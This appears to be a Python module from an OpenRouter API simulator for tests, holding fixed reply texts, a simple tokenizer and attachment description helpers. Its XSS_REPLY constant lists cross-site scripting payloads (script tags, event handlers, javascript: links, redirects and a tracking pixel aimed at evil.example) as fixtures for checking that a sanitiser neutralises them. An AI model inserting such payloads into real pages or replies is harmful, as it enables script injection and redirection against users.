"""Deterministic reply texts and how the simulator cuts them into tokens."""

from __future__ import annotations

import re
from typing import Any

DEFAULT_REPLY = """Here is a short answer from the **OpenRouter simulator**.

1. Replies are deterministic, so tests can compare them byte for byte.
2. Tokens arrive at a configurable rate, after a configurable first-token delay.
3. Usage and cost come from the simulator's own price table.

```python
def greet(name: str) -> str:
    return f"Hello, {name}!"
```

Ask again and you will get the same reply."""

REASONING = "The user wants a short answer. A list and a code sample will make it clear."

# XSS-01/02/04/07/14 payload families (reliability.md): each must render as text or be stripped.
XSS_REPLY = """Payloads follow; none of them may run.

<script>window.__pwned = 1</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror="window.__pwned = 2">
<svg onload="window.__pwned = 3"></svg>
<b onmouseover="window.__pwned = 4">hover me</b>
[click me](javascript:window.__pwned=5)
[encoded](&#106;avascript:window.__pwned=6)
[spaced]( javascript:window.__pwned=7 )
<a href="javascript:window.__pwned=8">html link</a>
<iframe src="javascript:window.__pwned=9"></iframe>
<object data="javascript:window.__pwned=10"></object>
<embed src="javascript:window.__pwned=11">
<form action="https://evil.example/"><button>go</button></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { display: none }</style>
![tracker](https://evil.example/pixel.png)

Plain text after the payloads stays visible."""

_TOKEN = re.compile(r"\s*\S{1,4}|\s+")


def tokenize(text: str) -> list[str]:
    """Cut text into token-sized pieces (whitespace rides with the next word; long words split)."""
    return _TOKEN.findall(text)


def long_reply(tokens: int) -> str:
    """About ``tokens`` tokens of numbered Markdown paragraphs."""
    parts: list[str] = []
    n = 0
    count = 0
    while count < tokens:
        n += 1
        line = f"{n}. Line {n} of a long reply, streamed to test bounded memory.\n"
        parts.append(line)
        count += len(tokenize(line))
    return "".join(parts)


def last_user_text(messages: list[Any]) -> str:
    """The text of the last user message (string content or text parts)."""
    for message in reversed(messages):
        if isinstance(message, dict) and message.get("role") == "user":
            content = message.get("content")
            if isinstance(content, str):
                return content
            if isinstance(content, list):
                return "".join(
                    p.get("text", "")
                    for p in content
                    if isinstance(p, dict) and p.get("type") == "text"
                )
    return ""


IMAGE_TOKENS = 85  # the simulator's stand-in count for one image part
PDF_PAGE_TOKENS = 500  # and for one page of a PDF file part


def count_prompt_tokens(messages: list[Any]) -> int:
    """A stand-in tokenizer: 4 tokens per message plus the tokens of its text, ``IMAGE_TOKENS``
    per image part and ``PDF_PAGE_TOKENS`` per page of a PDF part."""
    total = 0
    for message in messages:
        total += 4
        if isinstance(message, dict):
            content = message.get("content")
            if isinstance(content, str):
                total += len(tokenize(content))
            elif isinstance(content, list):
                for part in content:
                    if isinstance(part, dict) and isinstance(part.get("text"), str):
                        total += len(tokenize(part["text"]))
                    elif isinstance(part, dict) and part.get("type") == "image_url":
                        total += IMAGE_TOKENS
                    elif isinstance(part, dict) and part.get("type") == "file":
                        total += PDF_PAGE_TOKENS * (_pdf_of(part).get("pages") or 1)
    return total


def media_parts(messages: list[Any]) -> list[dict[str, Any]]:
    """The image and file parts of the last user message."""
    for message in reversed(messages):
        if isinstance(message, dict) and message.get("role") == "user":
            content = message.get("content")
            if not isinstance(content, list):
                return []
            return [
                p for p in content if isinstance(p, dict) and p.get("type") in ("image_url", "file")
            ]
    return []


def describe_media(messages: list[Any]) -> str | None:
    """What the last user message attached, as a model that reads it would say:
    ``I see 1 image (PNG, 64×48) and 1 PDF (2 pages).`` None when it attached nothing."""
    parts = media_parts(messages)
    if not parts:
        return None
    images = [_image_of(p) for p in parts if p.get("type") == "image_url"]
    pdfs = [_pdf_of(p) for p in parts if p.get("type") == "file"]
    said = []
    if images:
        shown = ", ".join(images)
        said.append(f"{len(images)} image{'s' if len(images) > 1 else ''} ({shown})")
    if pdfs:
        shown = ", ".join(d["text"] for d in pdfs)
        said.append(f"{len(pdfs)} PDF{'s' if len(pdfs) > 1 else ''} ({shown})")
    return f"I see {' and '.join(said)}."


def _decoded(url: Any) -> bytes | None:
    import base64
    import binascii

    if not isinstance(url, str) or not url.startswith("data:") or "," not in url:
        return None
    try:
        return base64.b64decode(url.split(",", 1)[1], validate=True)
    except (binascii.Error, ValueError):
        return None


def _image_of(part: dict[str, Any]) -> str:
    image = part.get("image_url")
    url = image.get("url") if isinstance(image, dict) else None
    data = _decoded(url)
    if data is None:
        return "a URL" if isinstance(url, str) and url.startswith("http") else "unreadable"
    try:
        import io

        from PIL import Image

        with Image.open(io.BytesIO(data)) as opened:
            return f"{opened.format}, {opened.width}×{opened.height}"
    except Exception:
        return "unreadable"


def _pdf_of(part: dict[str, Any]) -> dict[str, Any]:
    file = part.get("file")
    url = file.get("file_data") if isinstance(file, dict) else None
    data = _decoded(url)
    if data is None:
        text = "a URL" if isinstance(url, str) and url.startswith("http") else "unreadable"
        return {"text": text, "pages": None}
    if not data.startswith(b"%PDF-"):
        return {"text": "not a PDF", "pages": None}
    # Page objects, as a PDF reader would count them (enough for the PDFs tests make).
    pages = len(re.findall(rb"/Type\s*/Page(?![a-z])", data))
    return {"text": f"{pages} page{'s' if pages != 1 else ''}", "pages": pages}
